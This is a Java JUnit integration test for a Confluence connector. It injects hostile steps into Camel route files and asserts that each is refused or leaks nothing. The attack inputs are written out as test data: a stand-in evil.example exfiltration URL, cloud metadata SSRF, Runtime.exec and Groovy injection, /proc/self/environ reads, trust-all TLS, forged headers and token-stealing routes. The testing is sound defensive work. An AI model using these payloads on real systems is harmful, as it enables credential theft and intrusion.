package io.confluenceconnector.routes;

import com.sun.net.httpserver.HttpServer;
import io.confluenceconnector.cycle.Count;
import io.confluenceconnector.cycle.CycleOutcome;
import io.confluenceconnector.cycle.CycleReport;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

/** The shipped routes with one text replaced by an attack: refused at load, or harmless below the routes. */
class HostileRoutesIT {

    private static final String BEFORE_SEND = "- to:\n            id: send-to-confluence";
    private static final String CONFLUENCE_ADDRESS = "- process:\n            id: confluence-address\n            ref: confluenceAddress";
    private static final String PLATFORM_ADDRESS = "- process:\n            id: platform-address\n            ref: platformAddress";
    private static final String UPLOAD_ADDRESS = "- process:\n            id: upload-address\n            ref: uploadAddress";

    @TempDir
    Path folder;
    private HttpServer stranger;
    private final List<String> stolen = new CopyOnWriteArrayList<>();
    private RouteTenant tenant;

    @BeforeEach
    void start() throws IOException {
        stranger = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        stranger.createContext("/", exchange -> {
            String body = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
            stolen.add(exchange.getRequestMethod() + " " + exchange.getRequestHeaders() + " " + body);
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        stranger.start();
        tenant = new RouteTenant();
        tenant.confluence.page(tenant.confluence.space("DOC", "Documentation", "global"), "Hello", "<p>Hello</p>", RouteTenant.LABEL);
    }

    @AfterEach
    void stop() {
        tenant.close();
        stranger.stop(0);
    }

    @ParameterizedTest
    @DisplayName("S24: a step that would get past the guards is refused before anything of the file is loaded")
    @CsvSource(delimiter = '|', value = {
            "uri: confluence:api         | uri: https://evil.example/collect            | the endpoint scheme 'https'",
            "uri: confluence:api         | uri: http://169.254.169.254/latest/meta-data | the endpoint scheme 'http'",
            "uri: confluence:api         | uri: confluence:api?httpMethod=DELETE        | the endpoint 'confluence:api?…'",
            "ref: confluenceAnswerCheck  | ref: java.lang.Runtime                       | the bean 'java.lang.Runtime'",
            "expression: application/json | expression: '{{env:CLIENT_SECRET}}'         | the placeholder",
            "expression: application/json | expression: '{{ZITADEL_SECRET}}'            | the placeholder",
            "expression: application/json | expression: resource:file:/proc/self/environ | a value read from a resource"})
    void shouldRefuseAtLoad(String original, String attack, String found) {
        // given
        Path routes = RouteFolder.tampered(folder, "confluence-request.camel.yaml", original, attack);

        // then
        assertThatThrownBy(() -> tenant.start(routes)).isInstanceOf(RouteFilesRejectedException.class)
                .hasMessageContaining(found).hasMessageContaining("confluence-request.camel.yaml:");
        assertThat(tenant.confluence.requests()).isEmpty();
    }

    @ParameterizedTest
    @DisplayName("S13, S24: a step put before the request cannot reach a client, a script, a class or the log of headers")
    @ValueSource(strings = {"script: {expression: {groovy: {expression: x}}}", "bean: {beanType: java.lang.Runtime, method: exec}",
            "log: {message: '${headers}'}", "to: {uri: 'log:all', parameters: {showAll: true}}",
            "to: {uri: 'confluence:api', parameters: {sslContextParameters: '#trustAll'}}",
            "to: {uri: 'confluence:api', parameters: {x509HostnameVerifier: '#class:org.apache.hc.client5.http.ssl.NoopHostnameVerifier'}}",
            "to: {uri: 'confluence:api', parameters: {httpMethod: DELETE}}", "toD: {uri: '${header.CamelHttpUri}'}"})
    void shouldRefuseStepBeforeRequest(String attack) {
        // given
        Path routes = RouteFolder.tampered(folder, "confluence-request.camel.yaml",
                "        - bean:\n            id: confluence-rate-limit", "        - " + attack
                        + "\n        - bean:\n            id: confluence-rate-limit");

        // then
        assertThatThrownBy(() -> tenant.start(routes)).isInstanceOf(RouteFilesRejectedException.class)
                .hasMessageContaining("route 'confluence-attempt'");
    }

    @Test
    @DisplayName("S5: a request to a stranger's address never leaves, although the route asks for it")
    void shouldNotSendToStranger() {
        // given
        tenant.start(RouteFolder.tampered(folder, "confluence-request.camel.yaml", CONFLUENCE_ADDRESS, address(strangerUrl())));

        // when
        CycleReport report = tenant.cycle();

        // then
        assertThat(report.failure()).hasValueSatisfying(reason -> assertThat(reason).startsWith("Refused by S5"));
        assertThat(stolen).isEmpty();
    }

    @Test
    @DisplayName("S5: nor does one to an address inside the network")
    void shouldNotSendToInternalAddress() {
        // given
        tenant.start(RouteFolder.tampered(folder, "confluence-request.camel.yaml", CONFLUENCE_ADDRESS,
                address("http://169.254.169.254/latest/meta-data")));

        // when
        CycleReport report = tenant.cycle();

        // then
        assertThat(report.failure()).hasValueSatisfying(reason -> assertThat(reason).startsWith("Refused by S5"));
    }

    @ParameterizedTest
    @DisplayName("S1: a route that sends another method to Confluence sends nothing")
    @ValueSource(strings = {"DELETE", "POST", "PUT", "delete", "PATCH"})
    void shouldOnlyReadConfluence(String method) {
        // given
        tenant.start(RouteFolder.tampered(folder, "confluence-request.camel.yaml", BEFORE_SEND,
                "- setHeader: {name: CamelHttpMethod, constant: " + method + "}\n        " + BEFORE_SEND));

        // when
        CycleReport report = tenant.cycle();

        // then
        assertThat(report.failure()).hasValueSatisfying(reason -> assertThat(reason).startsWith("Refused by S1"));
        tenant.confluence.assertOnlyReads();
    }

    @Test
    @DisplayName("S1: the platform's client cannot be turned against Confluence")
    void shouldNotPostToConfluence() {
        // given
        tenant.start(RouteFolder.tampered(folder, "platform-request.camel.yaml", PLATFORM_ADDRESS,
                address(tenant.confluenceApi() + "/rest/api/content")));

        // when
        CycleReport report = tenant.cycle();

        // then
        assertThat(report.failure()).hasValueSatisfying(reason -> assertThat(reason).startsWith("Refused by S1"));
        tenant.confluence.assertOnlyReads();
    }

    @Test
    @DisplayName("S5: nor send the platform's credentials to a stranger")
    void shouldNotSendPlatformCredentialsToStranger() {
        // given
        tenant.start(RouteFolder.tampered(folder, "platform-request.camel.yaml", PLATFORM_ADDRESS, address(strangerUrl())));

        // when
        CycleReport report = tenant.cycle();

        // then
        assertThat(report.failure()).hasValueSatisfying(reason -> assertThat(reason).startsWith("Refused by S5"));
        assertThat(stolen).isEmpty();
    }

    @Test
    @DisplayName("S1: the upload client cannot write to Confluence")
    void shouldNotUploadToConfluence() {
        // given
        tenant.start(RouteFolder.tampered(folder, "upload-request.camel.yaml", UPLOAD_ADDRESS,
                address(tenant.confluenceApi() + "/rest/api/content")));

        // when
        CycleReport report = tenant.cycle();

        // then
        assertThat(report.failures()).singleElement()
                .satisfies(failure -> assertThat(failure.reason()).startsWith("Refused by S1"));
        tenant.confluence.assertOnlyReads();
    }

    @Test
    @DisplayName("S5: an upload to a stranger, which pre-signed addresses may be, carries no credentials")
    void shouldUploadWithoutCredentials() {
        // given
        tenant.start(RouteFolder.tampered(folder, "upload-request.camel.yaml", UPLOAD_ADDRESS, address(strangerUrl())));

        // when
        CycleReport report = tenant.cycle();

        // then
        assertThat(report.outcome()).isEqualTo(CycleOutcome.SUCCESS);
        assertThat(stolen).singleElement().satisfies(request -> assertThat(request).startsWith("PUT")
                .doesNotContainIgnoringCase("authorization").doesNotContainIgnoringCase("cookie"));
    }

    @ParameterizedTest
    @DisplayName("S5, S8: no step gets hold of a secret or a token, and a token request goes to its own address only")
    @CsvSource(quoteCharacter = '`', value = {"confluenceToken, request, ${body}", "platformToken, request, ${body}",
            "`confluenceToken`, request, `${body.content}\", resultType: \"String`",
            "`platformToken`, request, `${body.getContent}\", resultType: \"String`",
            "confluenceToken, request, ${body.encode}", "confluenceToken, request, ${body.jsonEncoded}",
            "platformToken, request, ${body.formEncoded}", "confluenceToken, token, ${body.get.reveal}", "platformToken, token, ${body.get.reveal}"})
    void shouldNotUploadCredentials(String bean, String method, String expression) {
        // given
        List<String> secrets = new CopyOnWriteArrayList<>(List.of(tenant.confluence.clientSecret(), tenant.platform.zitadelProjectId()));
        tenant.confluence.onSecret(secrets::add);
        tenant.platform.onSecret(secrets::add);
        String send = "        - to:\n            id: send-upload";
        Path routes = RouteFolder.tampered(folder, "upload-request.camel.yaml", send, """
                        - setBody: {expression: {method: {ref: %s, method: %s}}}
                        - setBody: {expression: {simple: {expression: "%s"}}}
                        - setHeader: {name: CamelHttpUri, expression: {constant: {expression: "%s"}}}
                """.formatted(bean, method, expression, strangerUrl()) + send);

        // when
        Throwable refusal = catchThrowable(() -> {
            tenant.start(routes);
            assertThat(tenant.cycle().failedItems()).isOne();
        });

        // then
        assertThat(stolen).noneMatch(request -> secrets.stream().anyMatch(request::contains)).isEmpty();
        assertThat(refusal).satisfiesAnyOf(none -> assertThat(none).isNull(),
                refused -> assertThat(refused).isInstanceOf(RuntimeException.class).hasMessageContaining("acme"));
    }

    @ParameterizedTest
    @DisplayName("S8, S9: no step reads the address of an upload, which is a credential")
    @ValueSource(strings = {"${header.CamelHttpUri}", "${header.CamelHttpUri.reveal}", "${exchangeProperty.registration.uploadUrl}",
            "${exchangeProperty.registration.uploadUrl.reveal}", "${exchangeProperty.registration}"})
    void shouldNotShowTheUploadAddress(String expression) {
        // given
        List<String> signatures = new CopyOnWriteArrayList<>();
        tenant.platform.onSecret(signatures::add);
        String send = "        - to:\n            id: send-upload";
        tenant.start(RouteFolder.tampered(folder, "upload-request.camel.yaml", send, """
                        - setBody: {simple: {expression: "%s", resultType: String}}
                        - setHeader: {name: CamelHttpUri, constant: "%s"}
                """.formatted(expression, strangerUrl()) + send));

        // when
        CycleReport report = tenant.cycle();

        // then
        assertThat(signatures).isNotEmpty();
        assertThat(stolen.toString() + report.failures()).doesNotContain(signatures).doesNotContain("sig=");
    }

    @ParameterizedTest
    @DisplayName("S5: headers that a route adds do not travel, so that nothing is said twice or to the wrong host")
    @CsvSource({"confluence-request, confluence:api, send-to-confluence", "platform-request, platform:api, send-to-platform",
            "upload-request, upload:api, send-upload"})
    void shouldDropHeadersOfRoutes(String file, String endpoint, String step) {
        // given
        String to = "        - to:\n            id: " + step;
        tenant.start(RouteFolder.tampered(folder, file + ".camel.yaml", to, """
                        - setHeaders:
                            headers:
                              - {name: Authorization, expression: {constant: {expression: Bearer forged}}}
                              - {name: Cookie, expression: {constant: {expression: a=b}}}
                              - {name: Host, expression: {constant: {expression: evil.example}}}
                              - {name: CamelHttpQuery, expression: {constant: {expression: a=b}}}
                              - {name: CamelHttpPath, expression: {constant: {expression: /../admin}}}
                """ + to));

        // when
        CycleReport report = tenant.cycle();

        // then
        assertThat(report.outcome()).as(endpoint).isEqualTo(CycleOutcome.SUCCESS);
        assertThat(report.total(Count.PAGES_INGESTED)).isOne();
        assertThat(tenant.platform.violations()).isEmpty();
        tenant.confluence.assertNoViolations();
    }

    /** A step that sends to another address than the request's own. */
    private static String address(String url) {
        return "- setHeader: {name: CamelHttpUri, constant: \"" + url + "\"}";
    }

    private String strangerUrl() {
        return "http://127.0.0.1:" + stranger.getAddress().getPort() + "/collect";
    }
}
